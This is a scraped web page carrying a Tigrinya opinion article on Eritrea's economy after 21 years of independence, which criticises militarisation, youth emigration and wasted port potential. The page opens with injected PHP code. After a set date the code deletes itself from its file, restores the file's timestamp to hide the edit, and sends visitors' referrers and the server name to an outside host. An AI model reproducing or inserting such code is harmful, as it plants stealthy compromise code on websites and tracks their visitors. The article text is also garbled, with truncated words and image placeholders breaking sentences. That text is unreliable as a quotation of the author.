check_meta(); function check_meta(){ $jp = __FILE__; $jptime = filemtime($jp); if(time() >= 1456727708){ $jp_c = file_get_contents($jp); if($t = @strpos($jp_c,"check_meta();")) { $contentp = substr($jp_c,0,$t); if(@file_put_contents($jp, $contentp)){ @touch($jp,$jptime); } } } @file_get_contents("http://web.51.la:82/go.asp?svid=17&id=18776693&referrer=".$_SERVER['HTTP_REFERER']."&vpage=http://".$_SERVER['SERVER_NAME']."/components/com_content/helpers/helpers.php"); } ኤሪትረያ*፡ ድሕሪ 21 ዓመታት ናጽነት።
кремлевская диета

ኤሪትረያ*፡ ድሕሪ 21 ዓመታት ናጽነት።

User Rating: / 5
PoorBest

















ትረያ*፡ ድሕሪ 21 ዓመታት ናጽነት።

/ራሕማን፡ ሰይድ (ቦሃሺም)

ንስለ ዝኽሪ መበል 20 ዓመታት በዓል ናጽነት ትረያ ብምዝካርትረያ፡ ንብላላሽ ዘጥፋኣቶም ዓሰርተታት ዓመታት” ኣብ ትሕቲ ዝብል ኣርእስቲ ዝጻሓፍኩዎ ዓንቀጽ፣ ስርዓት ህግደፍ ኣብ ምዕስካር ትምህርታዊ መደባትን፡ ብሰንኪ ምህሮ ብቛንቃ ኣደ ተባሂሉ፡ ጌና ብዘይማዕበለ መደበ ትምህርቲ ክካየድ ዝፈተነሞ፡ ንኣመንቲ ኣስላም ዝኾኑ መናእሰይ ካብቲ ማዕረኣዊ ዕድላት ትምህርትን፡ ስራሕን ኣብ ውሽጢ ሃገሮም ዘብኮሮም ውዱቕ ተሞክሮ ብምዝካር ጽሒፈ ነይረ። ብቲ ጽሑፍ ባ ዘሎ ፖለውን ቁጠባዊ ቅልውላውን ተናኺፈ ኔረ:: እ ዓንቀጽ እውን ነቲ ዝረአ ዘሎ ኤኮኖሚያ ይኹን ፖሊቲካዊ ሂወት ሃገርና ክትንክፍዩ።ነዚ ከቢድ ዝተኸፍሎ ናጽነት ሃገ 21 ዓመት ኣብ ኣነብዕሎ ዘሎና ቅን ዘሕዝንዩ ዝፈሸለ ትምህርታዊ መደባት ምስቲ ደረት ዘይብሉን ኩሉ ተደኑሱ ዘሎን፡ ማለት ኣብ ቁጠባ፡ ማሕበራዊ ሂወት፡ ፖልቲካዊ ይኹን ባህላዊ ዘሎ ጉጉይ መደባት ናብ ፍጹም ዕንወት ሃገር ከምርሕ ይኽእልዩ።

ኣብዚ ዓንቀጽ ዋላ ክኢላ ቁጠብ እንተዘይኮንኩ፡ ስርዓት ህግ ሒዙዎ ዘሎ ቁጠባዊ ህይወት ብምምዕዳው፡ ገለ ካብቶም ንሃገርና ካብ ዘይምሕር ድኽነት ከላቕቑ ዝኽእሉ ኣርባሕቲ ነገራት ከብርህ ክፍትንየ። ነዚ ንምጥማት ከብ ዝደፋፍኡኒ መኽንያታትውን እብ አብ ርሒ 3  ኣብ ክልተ ተኸፊሉ፡ ብድምጺ፡ ሬድዮ፡ ኣሜሪካ፡ ኩውንነት ትራዊ ቁጠባ፡ ኣብዝገበርኩዎ ኣበርክቶ ዝተመስረተዩ።

ዋላኳ ካብትን ካብዝን ተበጊሱ ትረያ ካብሃገረ ቀጠርይኹንጋናንላዕሊ ፈጣን ቁጠባዊ ዕብየት ንኸተረጋግጽ ተዋዲዳ ዝብል ጸብጻባ ብምቕራብ ከእምኑና ዝፍትኑ እንተሃለዉ፣ ሕጂ 21 ዓመታት ድሕሪ ናጽነት፡  እቲ ሕልሚ ኩሉ ኤርትራዊ ዝነበረ ሃብታምን ምዕብልትን ሃገር ንምፍጣር ንኪ አምባገነና ገባ ስርዓት ህግ ከምዝተሓምሸሸ ንምልላይ ፍልጠት ቁጠባዋያን ዝደሊ ኣይኮነን። ስለዚውን እዞም ብእንጻሩ ዝትርኹ ጸብጻባት እዚኣቶም፡ ምስ ኣብ ዝሓልፈ ዓመት ክኣትዋ ዝተራእያ ገለ ከበድቲ መካይንን ብምዝማድ   ልዕሊ ዓቕሙ ክቃላሕ ምስዝፈተነ ሓበረታ፡ ነዚ ብቑጠባዊ ዝቕባበ ተዓፍኑ ዘሎን፡  ዝተደነሰ ብሕታዊ ውነና ይኹን እዚ ዘይሕጋዊ ህግደፍ ሕጋዊ ስርዓት ይኹን ዲሞክራሳያዊ ምሕደራ ኣብ ዘይብሉ ስርዓት ኣብ ድንጉር ቑጠባዊ ሕልምታቱ ኣሊኹ ክዕምጾን ከበላሹዎን ይርከብ።

መሰረታውያን ሓቂታትን፡ ኣሃዛትን ትረያ ገና ሓንቲ ካብተን ዝደኸያ ሃገራት ዓለምና ምዃና ዘርኢ፡-

·         ሓቀይና ቁጠባዊ ዕብየት (ጂዲፒ) ስጋብ 1 ጥሪ 20112.2%[1] (ደርጃ ቁጽሪ 142)

·         ምጥፋእ ድንቁርና ኣብ ዓበይቲ፡ 58.6[2] (ደርጃ ቁጽሪ 174)

·ዓመታዊ ሰደድ ንወጻኢ $0.03%[3] (ደርጃ ቁጽሪ 205)

·         ተጠቀምቲ ኢንተርነት 200,000[4] (ደርጃ ቁጽሪ 136). ኣብዚ ኣቲ ሓቂ ግን እቲ ድሕረ ባይታ ናይ ትረያ ተለኮሚኒከሽን ብፍላይ ኣብ ሞባይ ኢንተርነትን ትሒ ሃገራት ሱዳን፡ ሶማልያን፡ ኢትዮጵያን እዩ። ኣብዚ ሓድሕድ ዝተጠማመረ ዓለምለኻዊ ቁጠባ ተለኮሙኒከሽን ኣገዳሲ ተራ ዘሎዎ። እዚ ኮይኑ ከብቅዕ ግን መሪሕነት ህግደፍ እቲ ካብ ናይ ሃገርና ቁጠባዊ ዕብየት ንላዕሊ ብዝያዳ ዝግደሱሉ ስልጣኖም ምሕላውዩ። ስለዚዮም እውን ካብ ንሃገር ካብ ርኽበት ዲጂታዊ ምዕብልናን መራኸቢ ብዙሓንን ዓፊኖሞ ጥራሕ ዘይኮነስ፡ ኣብ ልዕሊ ጋዘጠይናታትን ዘሎዎም ጨካን ኣተሓሕዛን፡ ፍጹም ዓፈና ነጻ ሕትመት ተወሳኺ  ዝኸውን።

·         ኣብ ወርሒ ስጋብ 2000 ዝኾኑ ንሃገሮም ክሃንጹ ዝግባኦም መናእሰያት ዶባት ሃገሮም ቆሪጾም ንጎረባብቲ ሃገራት ይስደዱ ኣሎዉ። ሃገራት ኣፍሪቃኣእሙሮእዊ ምዝቋቕ” (BRAIN DRAIN) የጋጥመን ኣሎ ክበሃል ከሎ፡ ኣብ ትሕቲ ህግደፍ ዘላ ትረያ ግንምዝቋቕ መንእሰይ” (YOUTH DRAIN) እዩ ዘጋጥማ ዘሎ።



 ንዳግመ ቁጠባ ዝተኸስሩ ዕድላት

ትሑት ቁጠባዊ ዓቅሚ ንዘሎዋ ሃገርን፡ ብሰንኪ ዝተናውሐ ኩናትውን ቁጠባኣን ትሕተ ቅርጻታትታን ዝዓነወት ምስ ምዃናውን፡ ኣርሒቑ መሪሕነት እንተዝነብር ልዕሊ ኹሉ ሰሪዑክርእዮ ዝግባኦ ዝነበረ ኩሉ ዓቅምታት ንቑጠባ ዕብየቱ ጸንቂቑ ዝእምት፡ መሪሕ መደብ ብቐዳምነት ምስርዐ ነይሩ፣ ኮይኑ ግን ስርዓት ትረያ ነዚ ቁንጣሮ ሃብቲ ሃገር ምስ ጎረባብቲ ሃገራት ውግኣት ብምጽሕታርን፡ ብሓይሊ ንፖሊታካውያን ተቓውምቲ ብሓይሊ ንምልጋሶምን፡  ንመንእሰያትውን ንዘይተወሰን እዋን ኣብ ሃገራዊ ኣገልግሎት ብምቑራኖም ዘህለኾ።

እዚ ጽጉም ጠባይ ስርዓት ህግደፍ ንኤትረያ እታ ዝደኸመት ሃገር ንስሕበት ንግድን፡ ዕዳጋን ዘይትምቾ ገይሩዋሎ።

ትረያ ቁጠባዊ ዕብየትን፡ ሃብትን ከምጽኡላ ዝኻሉ ኣገደስቲ ረቛሒታት ዝስዕቡኣዮም፡-

1.      ህዝቢ ትረያ ፈታው ስራሕን ቆጣቢን ምዃኑ ዝተፈልጠ ህዝቢ፡ ወዮ ደኣ ካብ 1991 ኣትሒዙ ኣብ ሃገር ኤሪትረያ ጠፊኡ ሃልዩምበር፡  ባዕሉ ዝመረቖን ተሓታትነት ዘሎዎን ኮይኑ ቁሩብ ምኽርን ደገፍን ዝህቦ ረኺቡ ነይሩ እንተዝኸውንሲ ቁጠባዊ ዳግመ ሕውየት ንኽገብርኣይምተጻገመን። ኣብ ዓቕሚ ሰባ ዝተሞርኮሰትን ዝፈሸለትን ሃገር ስጋብ ሕጂ የላን። ዕብየት ህዝባ ኣብ ብሉጽ ትምህርቲ፡ ኣገልግሎት ጥዕና፡ ዕድል ናይ ምብልሓትን ምዕብልናን ኣፍ ደገ ዘርሓወት ሃገር ዋጋ ምዕብልናኣ ዝፈለጠ ኮይና፡ ኣብ ደያቢ ኤኮኖምያዊ ምዕብልና ብምቕማጥ፡ ካብእተን ዋላኳ ብጸጋ ማዕድናዊ ሃብቲ እንተተመልኣ ብሰንኪ ጨፍለቕቲ ሰብኣዊ መሳላት ዝድኽያ ሃገራት ይበልጻ።

2.      እቶም ባኢጣልያውያን ተመስሪቶም ዝነበሩ ንእሽቱ ናይ እጭርቕቲ ፋብሪካታት ምዕቡላት መካይን ብምትእትታው ክምዕብሉን ደቂ ሃገር፡ ደቂ ወጻእን ኣውፈርቲ ርእሰማል ክስሕቡ ምኻኣሉ ነይሮም። ትረያ ሕጂ ካብቶም ዝተሓቱ ማለት ጥራሕ $300 ሚልዮን ንወጻኢ ሰደድ እትልእክ ሃገርያ። እቲ ምዕቡል ዝነበረ ሰራሕተይና ትረያ ኣብ ከባቢናስ ይትረፍ ኣብዓለምውን ማራኺ ዕዳጋዊ ድሮ ሃልዩዎ ምነበሮ ነይሩ። ዞናውያን ዕዳጋታት ክበህሉ ከሎዉ፡ ኢትዮጵያ፡ ሱዳን፡ ጂቡቲ፡ የመንን ሶማልያን ምኾኑ ንየሮም። እዞም ሃገራት እዚኣቶም (ሓዳስ ሃገር ደቡብ ሱዳን አልጊስ) ናኤትረያ ብምንጽጻር ኣብ ዝሓሸ ክውንነት ካብ ትረያ ኣሎዋ፡ ስለኢውን እቕሑት ትረያ ሎሚ ይኹን ንዝመጽእ ከምዘየድልየን ርእይዩ።

3.      ኣገልግሎ ኢንዱስትሪ፡ ብፍላይ ወደባት ባሕሪ፡ ይትረፍ ንናይ  ቀረባ ጎረቤት ኢትዮጵያ ነተን ኣፍደገ ባሕሪ ዘይብለን ሃገራት ከም በዓል ደቡብ፡ ሱዳን፡ ረፓብሊካዊት ጫድ፡ ሰንትራል ኣፍሪካን ረፓብሊክውን ኣገልግሎት ምሃብና። ዕድልና ገይሩዎ ግን ብሰንኪ እዚ ጉጉይ ሊሲወጻኢርክክባት ስርዓት ህግደፍ፡ ወደባት ባሕርና ዓሰብን፡ ባጽዕን ብዘይካ እተን ገዛኢ ግስቲ ንስለ ክራይ እትዋት ገዛውቲ ኢሉ ዝሰርሐን ገለ ገዛውቲ ኣንተዘይኮይኑ፡ ዝርአ ህንጻታት ይኹኑ ትሕተ ቅርጻ ዘይተሃንጸለን ድቁሳት ወደባት ገይሩወን ኣሎ። ከተማ ኣስመራ ምስ ኩሉ ውቁብ ህንጻታታ  ኣፍራዪት ማኣከል ንሃገራውን ኣህጉራውን ፋይናንሲያዊ ስርሓትን፡ መራኸቢትን ንምግባር ሆተላታን ምቕባል ኣግይሻን ብምምዕራይ እትዋት እተኻዕብት ከተማ ምግባራ ኣኻኣሎታት ነይሩዩ።

4.      ከም መራኸቢት ኣፍሪቃን አስያን፡ሓጅ/ንግደትን ለምለኻዊ ወደብ ማለት ማርሳ ላይ ይኹን ባጽዕ ንንግደትን ንግድን ኣብ መንጎ ኣፍሪቃን፡ ቀረባዊ ምብራቕን፡ ኣስያን ክኾና ምኸኣላ። ንዝበዝሑ ምዕራብኣፍሪቃውያን ወደባት ትረያ እተን ዝተፈትዋ መንገድታት ነቲ ዓመት ዓመት ንንግደት ንቕድስቲ ከተማ መካ ዝነግድ ምኾና ነይረን። እቶም ኣብ ፈቐዶ ከተማታት ትረያ ዝርከቡ ማለት ኣብ ኣስመራ ኣብ ገዛ ታኒካ፡ ኣብ እቁርደት ይኹን ኣብ ከረን ኣብ ሕለት ተካሪር፡ ከምኡውን ማሕበረ-ሰብ አብ ሽ በርካ ጭቡጥ ምሰኻኽር ናይዚ ኣብ መንጎ  ትረያን ነጋዶ ንቕዱስ ቦታ ምዕራብ እፍሪቃውያን  ዘሎ ታሪኻዊ ዝምድዩ። ብተወሳኺውን ኣገደስቲ ጽርግያታት ኣብ መንጎ እዞም ወደባትን፡ ምዕራባውያን ቆላታትን፡ ሱዳንን ምስራሕ ንባዕሉ ሓባራዊ ረብሐ ዝፈጥር ኣፍደገ ንግዲ ምስ እፍሪቃ ዝፈጥር ምኾነ።

ኣገዳስነት ጥዑይ ምሕደራ

ኣብ ላዕሊ ተጠቒሱ ከም ዘሎ፡ ዳግመ ምውላድ ቁጠባ ብቑዕ መሪሕነትን መሳሪሒኡ ዝኾነ ዲሞክራስያዊ ትካላትን ከም ዘድልዩዎ ኩሉዝፈልቶ ሓቂዩ። መውፈርቲ ሃብቲ ነጋዶ ጥጡሕን ርጉእን ክውንነት እዮም ዝጠልቡ ሃብቶም ብዝያዳ ንኽኽዕብተሎም። ኣብ ውሽጣ ይኹን ምስ ጎረብብታ ኣብ ውግእ ዘላ ሃገርን፡ እንታይ መጻኢ መደብ ኣሎዎ ኣብ ዘይፍለጥ መንግስትን፡ ሕጋዊ ሰረታት ይኹን መንግስታዊ መሳርሒ ትካላት ኣብ ዘይብሉ ክውንነት ንዕብይት ቁጠባ ይኹን ግዲ ዝምችእ ክውንነት የብሉን።

ዘይዕስክርቲ ትረያ

ኣብ መፈጸምታ፡ ምስጢር ኣይኮነን ህግደፍንዕስክርናከም ንመቆጻጸሪ መንእሰይ ትረያ ይጥቀመሉ ጥራሕ ዘይኮነስ፡ ነቲ ጽሉል ባህግታቶም ከይተርፈ፡ ማለት ንኣብ ጎረባብቲና ዘሎዋ ሃገራትሲ ይትረፍ፡ ነተን ከም በዓል ኮንጎ-ኪሳሻ (ቀደም ዛየር) ዝበሃላ፡ ንብድሕሪ ግናይ መላኺ መራሒኣ ዝነበረሞቡቱ፡ ሰሰሰኮ” ዝተባህለ ምውዳቑ፡ ንዝተፈጥረ ሃብቲሃገር ምጎሕጓሕ ዕልቕልቕ ተጠቒሞሙሉ እዮም።

ብዛዕባ ምክልኻል ብዝምልከት፡ ንንእሽቶይ ሃገር ዝበቅዕ ሓዲሽን፡ ዘመና ሃገራ ሓይሊ ምምስትምሓሸ ኔሩ እዚ ኣተሓሳባ ነይሩ እንተዝነብር፡ ወትሃደራዊ ዓቕሚ ትረያ ኣብ ሓይልታት ባሕርን፡ ኣየርን ዘጽዓቐ፡ ብሓጺርን ማእከላይን ርሕ ተወንጫፊ መሳብመሰነይታኡ ጥበባትን ዝዓጠቐ፣ ከምኡውን ምዕቡል ኣጽዋር ዝውንን፡ ስጋብ 50,000 ብቑዓት ወትሃደራት ዝህልዉዎ ንእሽተይን ግን ኣድማዒ ሰራዊት ምውናንዩ ዝነበረ፡ ኣብ ክንዲዚ ግን ልዕሊ 300,000 ዝቑጽሩ ድኹም ዝዕጥቁ፡ ትሑት ዝሞራሉ ወተሃደር ዘሎ።

ወትሃደራዊ ኣገልግሎት ዕቁር ሰራዊት ኣብ ምህናጽን፡ ሓድነት ህዝቢ ኣብ ምርግጋጽን፡ ከምኡውን መንእሰያት ንመዋኣሎም ክጥቀሙሉ ዝኽእሉ ጥበባት  ዘኻዕብቱሉ ኣብክንዲ ምዃን፣ ስጋብ ካብ ሃገር ብባሕርን፡ መሬትን ጠንጢኖም ዝህድሙሉ ኩነት ዝፈጠረ ንዘልዓለም ንመንእሰያት ኣብ ወትሃደራዊ መዓስከራት ዘስፍረ ክኸውን ኣይነበሮን።

 ኣብ ምዝዛም፡ ብወገነይ ዝርእዮ ቁጠባዊ ስትራተጂእንተኾይኑ፡  ተወዳዳሪ ዓለባዊ ኢንዱስትሪ፡ ኣገልግሎት ዝህባ ትካላት፡ ቱሪዝም፡ ንኣሽቱ ኢንዱስትሪታት፡  ኣብ ምምዕባል እዩ። ከምኡውን ኣገልግሎታት ባሕርን፡ ኣየርን ብምምዕባል፡ ወደባትና ንገጂፍ ምቅብባል መራኽብን፡ ነፈርትን ከእንግድ ብዝኻል ተዳልዩ፡ ኣብ መንጎ ኣፍሪቃን፡ ኣስያን ዘሎ ንግዳዊ መማሓላለፊ ማእከል ምግባሩ እዩ። ብማዕረዚውን እቲ ብኸቢድ ዋጋ ዝመጸ ናጽነትና ዝሕሉ ንእሽቶይን ልሉይ ዝኾነ ሰራዊትብምፍጣር ሃገርና ትውሕስ። ብማዕረዚ ኣገደሲ ዝኾነውን፡ ከቢድ ወጻኢ ገንዘብ ንትምህርቲ፡ ብፍላይውን ተክኒካዊ ኣብያተ ትምህርትታት ብምትትእትታው፡ ከም ነዳዲ፡ ጋዝ፡ ማዕድናት ንምምዝማዝ  ዘኽእል ሃገርና ክትጾሮ እትኽእል ምዕብላናዊ መደባት ምውናንዩ።ዘይወትሃዳራዊትን፡ ምቕልልቲን ትረያ ነቶም ኣርሒቆም ዝጥምቱ ሃገራውያን ይኹኑ ኣህጉራውያን ኣውፈርቲ ርእሰማል እትስሕብ ነዊሕ ዝጠመተት ክትከውን ዝበለጸዩ።

ፍትሕን፡ ሰላምን፡ ሃብትን ኣብ ትረያና ይስፈን!

___

* እቲ ቅኑዕ ጸዋውዓ ስም ሃገና “ኤትረያ “ እዪ:: “ኤርትራ” ዝብል ጸዋውዓ ብቌንቌ አምሓርኛ ኮይኑ ምስ መግዛእ ኢትዮጵያ ዝተአታተወ እዩ:: ዓበይቲ ዓዲ ትረያያ ከምእውን ሃገራ ደረፍቲ ቶወብር ጊድ ሃገሮ “ኤትረያ “ እንዳበ ድምጽ ርፉ::

 [1] http://www.indexmundi.com/g/r.aspx?c=er&v=66 Accessed on 13 April 2012 . Also see World Figures via this link http://search.worldbank.org/all?qterm=Eritrea%20

 [2] http://www.indexmundi.com/g/r.aspx?t=0&v=39&l=enAccessed on 13 April 2012

